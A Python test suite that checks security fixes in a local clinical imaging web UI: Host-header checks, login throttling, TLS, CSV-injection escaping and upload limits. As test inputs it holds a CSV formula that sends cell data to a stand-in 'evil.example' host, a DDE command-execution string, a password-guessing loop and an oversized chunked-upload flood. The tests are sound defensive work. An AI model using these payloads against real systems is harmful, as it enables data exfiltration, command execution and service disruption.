"""Issue #29, security items 5, 6, 7, 9 (config, DICOM) and 10: each attack that got through.

Real pages on 127.0.0.1 (in-process :class:`ui.app.Server`, as ``tests/test_ui_safety.py``) and
real sockets; every loop is bounded in count and time.

- 5: a request for another host name (DNS rebinding) gets 421; every answer forbids framing and
  carries a Content-Security-Policy.
- 6: failed logins are throttled per client and logged; HTTPS from a certificate and key; a
  login beyond loopback over plain HTTP is refused unless accepted explicitly.
- 7: no CSV cell pleura writes starts like a formula.
- 9: a config file that is not UTF-8 is one line; a cut uncompressed DICOM is "truncated", not
  "install a JPEG decoder".
- 10: a chunked upload is stopped at the limit; ``--print-config`` does not print the password.
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import select
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import numpy as np
import pytest

from stream.sockets import free_port
from ui.safety import SafetyError, UploadLimits

REPO = Path(__file__).resolve().parents[1]
LIMIT = 1 << 20
"""The upload limit of the test page: 1 MiB."""


def _serve(tmp: Path, **kwargs):
    from ui.app import PageConfig, Server

    port = free_port()
    server = Server(PageConfig(results_addr=f"tcp://127.0.0.1:{free_port()}", port=port,
                               demo_dir=tmp, **kwargs))
    server.start()
    return server, port


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """A page without login on loopback, uploads limited to 1 MiB, one extra allowed name."""
    server, port = _serve(tmp_path_factory.mktemp("page"), limits=UploadLimits(max_bytes=LIMIT),
                          allowed_hosts=("Ward-PC.example",))
    yield server, port
    server.close()


@pytest.fixture(scope="module")
def tls_files(tmp_path_factory):
    if shutil.which("openssl") is None:
        pytest.skip("openssl is needed to make a test certificate")
    d = tmp_path_factory.mktemp("tls")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", str(d / "key.pem"),
                    "-out", str(d / "cert.pem"), "-days", "1", "-subj", "/CN=localhost"],
                   check=True, capture_output=True, timeout=30)
    return str(d / "cert.pem"), str(d / "key.pem")


@pytest.fixture(scope="module")
def login_page(tmp_path_factory, tls_files):
    """A page with a login, served over HTTPS; a failure past the third locks out for 5 s."""
    from ui.httpguard import LoginLimits

    cert, key = tls_files
    server, port = _serve(tmp_path_factory.mktemp("login"), auth=("alice", "s3cret"),
                          tls_cert=cert, tls_key=key, login_limits=LoginLimits(first_lock_s=5.0))
    yield server, port
    server.close()


def _client(port: int, source: str = "127.0.0.1", scheme: str = "https") -> httpx.Client:
    """A client from ``source`` (any 127.x address: another client to the throttle)."""
    return httpx.Client(base_url=f"{scheme}://127.0.0.1:{port}", verify=False, timeout=10,
                        transport=httpx.HTTPTransport(local_address=source, verify=False))


# --------------------------------------------------------------------------- 5. Host header


@pytest.mark.parametrize("path", ["/pleura/state.json", "/", "/config", "/pleura/frame.jpg"])
def test_request_for_another_host_name_is_refused(page, path):
    """Before: ``Host: evil.example`` got 200 and the live state (DNS rebinding)."""
    _, port = page
    r = httpx.get(f"http://127.0.0.1:{port}{path}", headers={"Host": "evil.example"},
                  timeout=10)
    assert r.status_code == 421, r.status_code
    assert "evil.example" in r.text and "--allowed-host" in r.text
    assert r.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "LOCALHOST.",
                                  "[::1]:{port}", "10.1.2.3:{port}", "ward-pc.example:{port}"])
def test_loopback_ip_addresses_and_allowed_names_are_answered(page, host):
    _, port = page
    r = httpx.get(f"http://127.0.0.1:{port}/pleura/state.json",
                  headers={"Host": host.format(port=port)}, timeout=10)
    assert r.status_code == 200 and r.json()["received"] == 0


def test_request_without_a_host_header_is_refused(page):
    _, port = page
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(b"GET /pleura/state.json HTTP/1.0\r\n\r\n")
        assert s.recv(100).startswith(b"HTTP/1.1 421")


@pytest.mark.parametrize("path", ["/", "/pleura/state.json", "/no-such-page"])
def test_every_answer_forbids_framing_and_carries_a_csp(page, path):
    """Before: no X-Frame-Options, no Content-Security-Policy (the page could be framed)."""
    _, port = page
    r = httpx.get(f"http://127.0.0.1:{port}{path}", timeout=10)
    assert r.headers["x-frame-options"] == "DENY"
    csp = r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"


def test_host_names_are_normalised_and_ip_addresses_pass():
    from ui.httpguard import allowed_names, host_allowed, host_name

    assert host_name("[::1]:7860") == "::1" and host_name("Ward-PC.:80") == "ward-pc"
    assert host_name("::1") == "::1" and host_name("evil.example:7860") == "evil.example"
    names = allowed_names("0.0.0.0", ["Bedside-3.ward.example"])
    assert {"localhost", "127.0.0.1", "::1", "bedside-3.ward.example"} <= names
    for ok in ("bedside-3.ward.example:7860", "192.168.1.5:7860", "[fe80::1]:7860"):
        assert host_allowed(ok, names), ok
    for bad in ("evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "", None,
                "bedside-3.ward.example.evil.example"):
        assert not host_allowed(bad, names), bad


def test_websocket_for_another_host_is_closed_unanswered():
    from ui.httpguard import HostGuard

    reached, sent = [], []

    async def app(scope, receive, send):
        reached.append(scope)

    async def receive():
        return {"type": "websocket.connect"}

    async def send(message):
        sent.append(message)

    scope = {"type": "websocket", "path": "/ws", "headers": [(b"host", b"evil.example")]}
    asyncio.run(HostGuard(app, {"localhost"})(scope, receive, send))
    assert not reached and sent == [{"type": "websocket.close", "code": 1008}]


# --------------------------------------------------------------------------- 6. login


def test_failed_logins_are_throttled_per_client_and_logged(login_page, caplog):
    """Before: 50 wrong passwords in 0.54 s, every one checked, no delay, no log line. Now the
    fourth failure locks the address out (here for 5 s), each later try is a 429 with
    Retry-After, not checked even with the right password; another address is not locked; the
    failures are logged, rate limited."""
    _, port = login_page
    caplog.set_level(logging.WARNING, logger="ui.httpguard")
    with _client(port) as c:
        t = time.monotonic()
        codes = [c.post("/login", data={"username": "alice", "password": f"guess{i}"})
                 for i in range(50)]
        took = time.monotonic() - t
        assert [r.status_code for r in codes[:4]] == [400] * 4
        assert took > 4.5 or {r.status_code for r in codes[4:]} == {429}, took
        refused = codes[-1]
        assert refused.status_code == 429 and "too many failed logins" in refused.text
        assert 1 <= int(refused.headers["retry-after"]) <= 5
        right = c.post("/login", data={"username": "alice", "password": "s3cret"})
        assert right.status_code == 429  # locked out: the password is not even checked
    with _client(port, source="127.0.0.2") as other:
        assert other.post("/login", data={"username": "alice",
                                          "password": "s3cret"}).status_code == 200
    lines = [r.getMessage() for r in caplog.records if r.name == "ui.httpguard"]
    failures = [m for m in lines if m.startswith("failed login from 127.0.0.1")]
    assert len(failures) >= 4 and "4 in a row; locked out for 5 s" in failures[3]
    assert len(lines) <= 7, lines  # 51 refusals and failures, a handful of lines


def test_lock_out_doubles_is_capped_forgotten_and_cleared():
    from ui.httpguard import FailedLogins, LoginLimits

    book = FailedLogins(LoginLimits(free=3, first_lock_s=1.0, max_lock_s=60.0, forget_s=900.0,
                                    max_clients=3))
    locks = [book.failed("a", 10.0 * i)[1] for i in range(10)]
    assert locks == [0, 0, 0, 1, 2, 4, 8, 16, 32, 60]
    assert book.wait_s("a", 90.0) == 60.0 and book.wait_s("b", 90.0) == 0.0
    assert book.failed("a", 90.0 + 901.0) == (1, 0.0)  # quiet for forget_s: from zero again
    book.failed("a", 2000.0)
    book.succeeded("a")
    assert book.failed("a", 2001.0) == (1, 0.0)
    for c in "bcde":
        book.failed(c, 2002.0)
    assert len(book._clients) == 3  # bounded: the oldest are forgotten
    assert LoginLimits().lock_s(10_000) == LoginLimits().max_lock_s  # no overflow


def test_page_is_served_over_https_from_the_configured_certificate(login_page):
    _, port = login_page
    with _client(port, source="127.0.0.3") as c:
        assert c.get("/pleura/state.json").status_code == 401
        r = c.post("/login", data={"username": "alice", "password": "s3cret"})
        assert r.status_code == 200, r.text
        assert c.get("/pleura/state.json").json()["received"] == 0
    with pytest.raises(httpx.HTTPError), _client(port, "127.0.0.3", scheme="http") as plain:
        plain.get("/pleura/state.json")


def test_login_beyond_loopback_needs_tls_or_an_explicit_flag(tmp_path, tls_files, caplog):
    """Before: ``--host 0.0.0.0 --auth`` served the password in clear text without a word."""
    from ui.safety import check_transport

    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": str(tmp_path)}
    out = subprocess.run([sys.executable, "-m", "stream", "ui", "--results",
                          "tcp://127.0.0.1:9", "--host", "0.0.0.0", "--auth", "alice:s3cret"],
                         capture_output=True, text=True, timeout=120, cwd=REPO, env=env)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert "over plain HTTP" in out.stderr and "--tls-cert" in out.stderr, out.stderr
    cert, key = tls_files
    check_transport("0.0.0.0", ("alice", "pw"), cert, key)
    check_transport("127.0.0.1", ("alice", "pw"), None, None)  # loopback: nothing crosses
    check_transport("0.0.0.0", None, None, None)  # no login, nothing secret
    with pytest.raises(SafetyError, match="both --tls-cert"):
        check_transport("0.0.0.0", ("alice", "pw"), cert, None)
    with pytest.raises(SafetyError, match="cannot use the TLS certificate"):
        check_transport("0.0.0.0", ("alice", "pw"), key, cert)  # swapped
    caplog.set_level(logging.WARNING, logger="ui.safety")
    check_transport("0.0.0.0", ("alice", "pw"), None, None, allow_plain_http=True)
    assert any("OVER PLAIN HTTP" in r.getMessage() for r in caplog.records)


# --------------------------------------------------------------------------- 7. CSV injection

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"details")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _formula_like(cells: list[str]) -> list[str]:
    from stream.csvsafe import NUMBER

    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not NUMBER.fullmatch(c)]


def test_csv_cells_that_start_like_a_formula_are_quoted_numbers_stay():
    from stream.csvsafe import safe_cell

    for bad in (FORMULA, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "-"):
        assert safe_cell(bad) == "'" + bad
    for keep in ("-0.5", "+3", "1e-4", "-.5", "-2E+3", "0", "note", "", " =1", -0.5, 3, None):
        assert safe_cell(keep) == keep


def test_exam_csv_holds_no_formula(tmp_path):
    """Before: an override note ``=HYPERLINK(...)`` landed in the exam CSV as a formula."""
    from stream.exam.report import csv_text
    from stream.exam.store import ClipRecord, Exam

    exam = Exam.create(tmp_path / "e", "P01", 6, "2026-01-02")
    exam.add_clip("R1", ClipRecord("=cmd|' /C calc'!A0.mp4", ok=True, video_score=2,
                                   probs=[0.1, -0.0, 0.6, 0.3], n_frames=3))
    exam.set_override("R1", 3, FORMULA)
    exam.set_override("L1", 1, "@SUM(1+1)")
    cells = _cells(csv_text(exam))
    assert not _formula_like(cells), _formula_like(cells)
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert "-0.0" in cells and "0.6" in cells  # numbers untouched


def test_score_csv_holds_no_formula(tmp_path):
    from stream.score_output import write_clips_csv

    clip = {"path": "=1+2.mp4", "ok": False, "error": "+cmd failed", "n_frames": 0,
            "video": {"score": None, "probs": []}, "timing": {"fps": -0.5}, "truncated": False}
    write_clips_csv(tmp_path / "s.csv", [clip])
    cells = _cells((tmp_path / "s.csv").read_text())
    assert not _formula_like(cells) and "'=1+2.mp4" in cells and "-0.5" in cells


def test_report_frames_csv_holds_no_formula(tmp_path):
    from ui.report import ClipReport, write_frames_csv
    from ui.scoring import FrameRow

    row = FrameRow(0, (0.25, 0.25, 0.25, 0.25), (0.25, 0.25, 0.25, 0.25), 0,
                   findings={"=evil()": 0.5})
    report = ClipReport(clip="c.mp4", rows=(row,), video_probs=(0.25,) * 4, backend="cpu",
                        bundle="b", seconds=1.0)
    cells = _cells(write_frames_csv(report, tmp_path / "f.csv").read_text())
    assert not _formula_like(cells) and "'=evil()" in cells and "0.500000" in cells


# --------------------------------------------------------------------------- 9. one line


def test_config_file_that_is_not_utf8_is_one_clear_line(tmp_path):
    """Before: ``UnicodeDecodeError`` with a traceback."""
    from stream.config import ConfigError
    from stream.configfile import read_file

    f = tmp_path / "latin1.toml"
    f.write_bytes("[ui]\nport = 7861  # caf\u00e9\n".encode("latin-1"))
    with pytest.raises(ConfigError, match=r"not UTF-8 text \(byte 0xe9 on line 2\); save it"):
        read_file(f)
    out = subprocess.run([sys.executable, "-m", "stream", "live", "--config", str(f),
                          "--print-config"], capture_output=True, text=True, timeout=120,
                         cwd=REPO, env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO)})
    assert out.returncode != 0 and "Traceback" not in out.stderr
    assert out.stderr.strip().count("\n") == 0 and "not UTF-8" in out.stderr, out.stderr


@pytest.fixture
def cine(tmp_path) -> tuple[Path, bytes, int]:
    """An uncompressed 6-frame 64x80 grey cine: (path, its bytes, header bytes)."""
    pytest.importorskip("pydicom")
    from tests.test_dicom import write_dicom

    path = tmp_path / "cine.dcm"
    frames = (np.random.default_rng(0).random((6, 64, 80)) * 255).astype(np.uint8)
    write_dicom(path, frames, rgb=False)
    data = path.read_bytes()
    return path, data, len(data) - frames.nbytes


@pytest.mark.parametrize("frames_kept", [3.6, 4.0, 0.3])
def test_cut_uncompressed_dicom_is_truncated_not_a_missing_decoder(cine, tmp_path,
                                                                   frames_kept):
    """Before: "could not be decoded ... install a decoder (pip install pylibjpeg ...)" for a
    file that needs no decoder. Now: truncated, the complete frames before the cut decoded."""
    from stream.sources import TruncatedError, decode_file

    _, data, header = cine
    cut = tmp_path / "cut.dcm"
    cut.write_bytes(data[:header + int(frames_kept * 64 * 80)])
    got = []
    with pytest.raises(TruncatedError) as exc:
        got.extend(decode_file(cut))
    msg = str(exc.value)
    assert "truncated" in msg and "pylibjpeg" not in msg and "decoder" not in msg, msg
    assert len(got) == exc.value.decoded == int(frames_kept) and exc.value.expected == 6
    assert f"holds {int(frames_kept)} of the 6 frames" in msg


def test_complete_dicom_is_not_called_truncated(cine):
    from stream.sources import decode_file

    path, _, _ = cine
    assert len(list(decode_file(path))) == 6
    assert len(list(decode_file(path, max_frames=2))) == 2


# --------------------------------------------------------------------------- 10. limits


def _chunked_upload(port: int, files: int, size: int) -> tuple[int, bytes, bool]:
    """POST ``files`` files of ``size`` bytes as one chunked body (no Content-Length), reading
    the answer as soon as there is one. Returns (body bytes sent before the answer, the answer,
    whether the server then closed the connection: read nothing more)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(b"POST /gradio_api/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/"
              b"form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n")
    sent, answer, closed = 0, b"", False
    try:
        for i in range(files):
            part = (b'--b\r\nContent-Disposition: form-data; name="files"; filename="a%d.mp4"'
                    b"\r\n\r\n" % i) + b"\0" * size + b"\r\n"
            s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
            sent += len(part)
            if select.select([s], [], [], 0)[0]:
                break
        else:
            s.sendall(b"7\r\n--b--\r\n\r\n0\r\n\r\n")  # the closing boundary, the last chunk
    except OSError:  # the server closed the connection: read what it answered
        pass
    try:
        while more := s.recv(65536):
            answer += more
        closed = True
    except ConnectionResetError:  # closed with our unread bytes in its buffer: an RST, not a FIN
        closed = True
    except OSError:  # a timeout: the connection stayed open
        pass
    finally:
        s.close()
    return sent, answer, closed


def test_chunked_upload_is_stopped_at_the_limit(page):
    """Before: 100 files of 0.9 MB in one chunked body (90 MB, 1 MB limit) were all read and
    stored (200); a 64 MB form field was read whole, then a 500. Now: 413 once the body passes
    the limit and the connection closed (the rest never read), nothing left in the upload
    folder."""
    server, port = page
    sent, answer, closed = _chunked_upload(port, 100, 900_000)
    assert answer.startswith(b"HTTP/1.1 413"), answer
    assert b"limit of 1 MB" in answer and closed
    assert sent < 24 * LIMIT, f"{sent / 1e6:.0f} MB sent before the answer"
    deadline = time.monotonic() + 5
    while (left := [p for p in server.temp.path.rglob("*") if p.is_file()
                    and p.stat().st_size > 100_000]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not left, left
    ok = httpx.post(f"http://127.0.0.1:{port}/gradio_api/upload",
                    files={"files": ("small.mp4", b"\0" * 1000)}, timeout=10)
    assert ok.status_code == 200  # an upload under the limit still works


def test_print_config_does_not_print_the_password(tmp_path, capsys):
    """Before: ``auth = "alice:s3cret"`` in the printed config."""
    import tomllib

    from stream.cli import build_parser
    from stream.cli_live import redacted, run
    from stream.config import PleuraConfig, UiSettings
    from stream.configfile import from_dict

    argv = ["live", "--auth", "alice:s3cret", "--print-config"]
    assert run(build_parser(argv).parse_args(argv)) == 0
    out = capsys.readouterr().out
    assert "s3cret" not in out and '# auth = "alice:..." is set' in out
    assert from_dict(PleuraConfig, tomllib.loads(out)).ui.auth is None  # still a config file
    cfg = PleuraConfig(ui=UiSettings(auth="alice:s3cret"))
    assert redacted(cfg)["ui"]["auth"] == "alice:***"  # what --stats-json records
